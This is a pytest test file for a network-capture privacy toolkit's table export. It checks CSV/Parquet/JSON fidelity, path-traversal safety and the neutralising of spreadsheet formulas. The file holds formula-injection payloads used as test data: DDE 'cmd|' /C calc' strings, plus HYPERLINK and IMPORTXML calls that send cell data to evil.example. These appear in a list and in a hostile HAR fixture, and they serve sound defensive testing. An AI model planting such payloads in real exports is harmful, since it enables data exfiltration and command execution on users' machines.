"""Exported tables keep every row and every full value, in CSV, Parquet and JSON (CSV leaves long bodies to the
Parquet file beside it)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import pandas as pd
import pytest

from tests.paths import ROOT
from tests.report.hostile import ANDROID_ID, PAYLOADS, hostile_provenance, hostile_tables
from toolkit.export import CSV_CELL_LIMIT, FORMULA_TRIGGERS
from toolkit.report import export_tables, write_report
from toolkit.schema import TABLES


def test_every_format_keeps_full_values(tmp_path: Path) -> None:
    long_url = "https://t.example/?" + "z" * 5000
    leaks = TABLES["leaks"].frame({"needle": [long_url, PAYLOADS[0]], "needle_kind": ["url", "url"]})
    paths = export_tables({"leaks": leaks}, tmp_path, formats=("csv", "parquet", "json"))
    assert [p.name for p in paths] == ["leaks.csv", "leaks.parquet", "leaks.json"]
    assert pd.read_csv(paths[0])["needle"].tolist() == [long_url, PAYLOADS[0]]
    assert pd.read_parquet(paths[1])["needle"].tolist() == [long_url, PAYLOADS[0]]
    records = [json.loads(line) for line in paths[2].read_text(encoding="utf-8").splitlines()]
    assert [r["needle"] for r in records] == [long_url, PAYLOADS[0]]


def test_csv_leaves_long_bodies_to_the_parquet_beside_it(tmp_path: Path) -> None:
    long_text, long_binary = b"x" * (CSV_CELL_LIMIT + 1), bytes(range(256))  # base64 of 256 bytes: too long
    bodies = [b"crc=1&v=2", long_text, long_binary, None, b"=1+2"]
    many = [(f"X-Header-{i}", "v" * 20) for i in range(20)]  # 20 pairs: longer than a cell as JSON
    headers = [[("Host", "a.example")], many, [], [], [("A", "=1")]]
    ts = pd.to_datetime([1, 2, 3, 4, 5], unit="s", utc=True)
    requests = TABLES["requests"].frame(
        {"ts": ts, "url": [f"https://a.example/{i}" for i in range(5)], "body": bodies, "request_headers": headers}
    )
    [path] = export_tables({"requests": requests}, tmp_path, formats=("csv",))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["requests.csv", "requests.parquet"]
    cells = [row["body"] for row in _cells(path)]
    assert cells == [
        "crc=1&v=2",
        f"({CSV_CELL_LIMIT + 1:,} bytes: requests.parquet row 1)",
        "(256 bytes: requests.parquet row 2)",
        "",
        "'=1+2",
    ]
    listed = [row["request_headers"] for row in _cells(path)]
    assert listed == ['[["Host", "a.example"]]', "(20 pairs: requests.parquet row 1)", "[]", "[]", '[["A", "=1"]]']
    whole = pd.read_parquet(tmp_path / "requests.parquet")
    assert whole["body"].tolist() == bodies and whole["url"].tolist() == requests["url"].tolist()
    assert [[tuple(pair) for pair in json.loads(h)] for h in whole["request_headers"]] == headers
    assert whole["ts"].tolist() == ts.tolist()  # times stay times in the Parquet file, not their CSV text


def test_csv_folds_repeated_findings_and_parquet_keeps_every_row(tmp_path: Path) -> None:
    values = ["a", "b", "a", "a", "=c"]
    leaks = TABLES["leaks"].frame(
        {
            "ts": pd.to_datetime([5, 1, 9, 7, 3], unit="s", utc=True),
            "needle": values,
            "host": ["t.example"] * 5,
            "evidence": [f"x.pcap#frames={i}" for i in range(5)],
        }
    )
    [path] = export_tables({"leaks": leaks}, tmp_path, formats=("csv",))
    rows = _cells(path)
    assert [(r["needle"], r["count"], r["evidence"]) for r in rows] == [
        ("a", "3", "x.pcap#frames=0"),
        ("b", "1", "x.pcap#frames=1"),
        ("'=c", "1", "x.pcap#frames=4"),
    ]
    assert [r["ts_last"][:19] for r in rows] == ["1970-01-01 00:00:09", "1970-01-01 00:00:01", "1970-01-01 00:00:03"]
    whole = pd.read_parquet(tmp_path / "leaks.parquet")
    assert whole["needle"].tolist() == values and whole["evidence"].tolist() == leaks["evidence"].tolist()
    # nothing folded: no Parquet file needed
    [again] = export_tables({"leaks": leaks.iloc[:2]}, tmp_path / "two", formats=("csv",))
    assert [r["count"] for r in _cells(again)] == ["1", "1"] and not (tmp_path / "two" / "leaks.parquet").exists()


def test_parquet_row_groups_hold_a_bounded_size_of_bodies(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    from toolkit import export

    body = b"y" * (export.PARQUET_BYTES_AT_ONCE // 3)
    requests = TABLES["requests"].frame({"url": ["https://a.example/"] * 7, "body": [body] * 7})
    [path] = export_tables({"requests": requests}, tmp_path, formats=("parquet",))
    groups = pq.ParquetFile(path).metadata
    assert [groups.row_group(i).num_rows for i in range(groups.num_row_groups)] == [3, 3, 1]
    assert pd.read_parquet(path)["body"].tolist() == [body] * 7


def test_short_bodies_need_no_parquet_beside_the_csv(tmp_path: Path) -> None:
    requests = TABLES["requests"].frame({"url": ["https://a.example/"], "body": [bytes(range(150))]})
    [path] = export_tables({"requests": requests}, tmp_path, formats=("csv",))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["requests.csv"]
    assert _cells(path)[0]["body"].startswith("base64:AAECAw")


def test_table_names_cannot_escape_the_folder(tmp_path: Path) -> None:
    frame = TABLES["problems"].frame({"message": ["x"]})
    paths = export_tables({"../../etc/passwd": frame}, tmp_path / "out")
    assert paths == [tmp_path / "out" / "etc_passwd.csv"]


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="xlsx"):
        export_tables({}, tmp_path, formats=("xlsx",))  # type: ignore[arg-type]


def test_write_report_writes_html_markdown_and_masked_tables(tmp_path: Path) -> None:
    written = write_report(
        tmp_path,
        tables=hostile_tables(),
        provenance=hostile_provenance(),
        command="python -m toolkit analyze x.har --report",
        mask_identifiers=True,
        formats=("csv", "parquet"),
    )
    assert set(written) == {"html", "markdown", "tables"}
    html = written["html"].read_text(encoding="utf-8")
    names = sorted(p.name for p in written["tables"].iterdir())
    assert "leaks.csv" in names and "leaks.parquet" in names and "requests.csv" in names
    for name in names:
        assert f"tables/{name}" in html  # the report lists what was exported
        if name.endswith(".csv"):
            assert ANDROID_ID not in (written["tables"] / name).read_text(encoding="utf-8"), name
    assert ANDROID_ID not in html
    assert ANDROID_ID not in written["markdown"].read_text(encoding="utf-8")
    assert (tmp_path / "report_figures").is_dir()


def test_write_report_unmasked_exports_the_values(tmp_path: Path) -> None:
    written = write_report(tmp_path, tables=hostile_tables(), markdown=False)
    assert set(written) == {"html", "tables"}
    requests = pd.read_csv(written["tables"] / "requests.csv")
    assert requests["url"].str.contains(ANDROID_ID).all()


def test_claims_with_evidence_rows_export_as_claim_evidence(tmp_path: Path) -> None:
    from toolkit.claims import evaluate
    from toolkit.study import Study
    from toolkit.verdicts import read_claims

    study = Study.from_manifest(ROOT / "data" / "xiaomi-2020.toml")
    tables = study.tables
    tables["claims"] = evaluate(study, read_claims(ROOT / "data" / "xiaomi-2020.toml"))
    written = write_report(tmp_path, tables=tables, mask_identifiers=True, formats=("csv", "parquet"))
    folder = written["tables"]
    claims = pd.read_csv(folder / "claims.csv")
    assert "rows" not in claims.columns and set(claims["verdict"]) <= {
        "not_observed",
        "contradicted",
        "inconclusive",
    }
    evidence = pd.read_parquet(folder / "claim_evidence.parquet")
    assert set(evidence["claim"]) <= set(claims["claim"]) and len(evidence) > 0
    for path in folder.glob("*.csv"):
        assert ANDROID_ID not in path.read_text(encoding="utf-8"), path.name
    html = written["html"].read_text(encoding="utf-8")
    assert "contradicted" in html and ANDROID_ID not in html


# --- spreadsheets: no formula runs from a CSV export ---------------------------------------------

#: Cells a spreadsheet runs as formulas, one per trigger character (OWASP's list and more).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _formula_frame(table: str, rows: int = len(FORMULAS)) -> pd.DataFrame:
    """Every text column of ``table`` (from the schema, not a list) filled with formulas; object
    columns (bodies, header lists) with formulas as bytes and inside lists."""
    data: dict[str, list[object]] = {}
    for column in TABLES[table].columns:
        if column.dtype in ("string", "category"):
            data[column.name] = [FORMULAS[(i + len(data)) % len(FORMULAS)] for i in range(rows)]
        elif column.dtype == "object":
            data[column.name] = [FORMULAS[i % len(FORMULAS)].encode() for i in range(rows)]
    return TABLES[table].frame(data)


def _text_columns(table: str) -> list[str]:
    return [c.name for c in TABLES[table].columns if c.dtype in ("string", "category", "object")]


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("table", list(TABLES))
def test_csv_neutralises_every_formula_cell_of_every_table(tmp_path: Path, table: str) -> None:
    frame = _formula_frame(table)
    [path] = export_tables({table: frame}, tmp_path, formats=("csv",))
    rows = _cells(path)
    assert len(rows) == len(frame)
    for column in _text_columns(table):
        for i, row in enumerate(rows):
            cell = row[column]
            assert not cell.startswith(FORMULA_TRIGGERS), (table, column, cell)
            value = frame[column].astype(object).iloc[i]
            text = value.decode() if isinstance(value, bytes) else str(value)
            assert cell == "'" + text, (table, column, cell)  # readable: the value behind one quote


def test_parquet_and_json_keep_the_raw_values(tmp_path: Path) -> None:
    frame = _formula_frame("leaks")
    csv_path, parquet_path, json_path = export_tables({"leaks": frame}, tmp_path, formats=("csv", "parquet", "json"))
    assert pd.read_parquet(parquet_path)["matched_form"].tolist() == frame["matched_form"].astype(object).tolist()
    records = [json.loads(line) for line in json_path.read_text(encoding="utf-8").splitlines()]
    assert [r["needle"] for r in records] == frame["needle"].astype(object).tolist()
    assert [r["needle"] for r in _cells(csv_path)] == ["'" + v for v in frame["needle"].astype(object)]


def test_harmless_cells_are_left_alone(tmp_path: Path) -> None:
    leaks = TABLES["leaks"].frame({"needle": ["GET", "https://a.example/?q=-1", "'=already", "a=b"]})
    [path] = export_tables({"leaks": leaks}, tmp_path)
    assert [r["needle"] for r in _cells(path)] == ["GET", "https://a.example/?q=-1", "'=already", "a=b"]


def test_a_hostile_capture_opened_in_a_spreadsheet_runs_no_formula(tmp_path: Path) -> None:
    """A HAR whose every free-text field is a formula, through the whole command line (tables,
    leaks, report tables): no cell of any CSV written begins with a formula trigger."""
    from toolkit.cli import main

    identifier = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
    entries = [
        {
            "startedDateTime": "2020-04-30T09:00:00.000Z",
            "time": 1,
            "pageref": "=cmd|' /C calc'!A0",
            "request": {
                "method": formula.replace(" ", "") if i % 2 else "POST",
                "url": f"https://t{i}.example/c?v={i}",
                "httpVersion": "@HTTP/1.1",
                "headers": [{"name": "X-App", "value": formula}, {"name": "Content-Type", "value": formula}],
                "queryString": [],
                "cookies": [{"name": "-c", "value": formula}],
                "headersSize": -1,
                "bodySize": -1,
                "postData": {"mimeType": formula, "text": f"id={identifier}&x={formula}"},
            },
            "response": {
                "status": 200,
                "statusText": formula,
                "httpVersion": "HTTP/1.1",
                "headers": [{"name": "Content-Type", "value": formula}],
                "cookies": [],
                "content": {"size": 3, "mimeType": formula, "text": formula},
                "redirectURL": "",
                "headersSize": -1,
                "bodySize": -1,
            },
            "cache": {},
            "timings": {"send": 0, "wait": 1, "receive": 0},
            "serverIPAddress": "+10.0.0.1",
        }
        for i, formula in enumerate(FORMULAS)
    ]
    har = {
        "log": {
            "version": "1.2",
            "creator": {"name": "=cmd|' /C calc'!A0", "version": "-1"},
            "pages": [],
            "entries": entries,
        }
    }
    capture = tmp_path / "hostile.har"
    capture.write_text(json.dumps(har))
    out = tmp_path / "out"
    assert main(["analyze", str(capture), "--id", f"@TOKEN={identifier}", "--out", str(out), "--report"]) == 0
    written = sorted(out.rglob("*.csv"))
    assert {p.name for p in written} >= {"requests.csv", "leaks.csv", "endpoints.csv"}
    leaks = _cells(out / "leaks.csv")
    assert any(r["needle"] == "'" + identifier for r in leaks), "the leak of the formula identifier is found"
    assert {r["matched_form"] for r in leaks} == {"'@TOKEN"}
    requests = _cells(out / "requests.csv")
    assert sum(r["method"].startswith("'") for r in requests) == 3  # the hostile methods, neutralised
    assert {r["server_ip"] for r in requests} == {"'+10.0.0.1"}
    assert {r["page"] for r in requests} == {"'=cmd|' /C calc'!A0"}
    checked = 0
    for path in written:
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
                    checked += 1
    assert checked > 100


def test_files_written_a_slice_at_a_time_equal_the_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import toolkit
    import toolkit.export as export

    capture = toolkit.load(ROOT / "data" / "lab" / "normal.pcap", keylog=ROOT / "data" / "lab" / "normal.keylog")
    whole = export_tables(capture.tables, tmp_path / "whole", formats=("csv", "parquet"))
    monkeypatch.setattr(export, "CSV_ROWS_AT_ONCE", 2)
    monkeypatch.setattr(export, "PARQUET_ROWS_AT_ONCE", 2)
    sliced = export_tables(capture.tables, tmp_path / "sliced", formats=("csv", "parquet"))
    assert [p.name for p in whole] == [p.name for p in sliced] and len(whole) >= 10
    for one, two in zip(whole, sliced, strict=True):
        if one.suffix == ".csv":
            assert one.read_bytes() == two.read_bytes(), one.name
        else:
            pd.testing.assert_frame_equal(pd.read_parquet(one), pd.read_parquet(two))
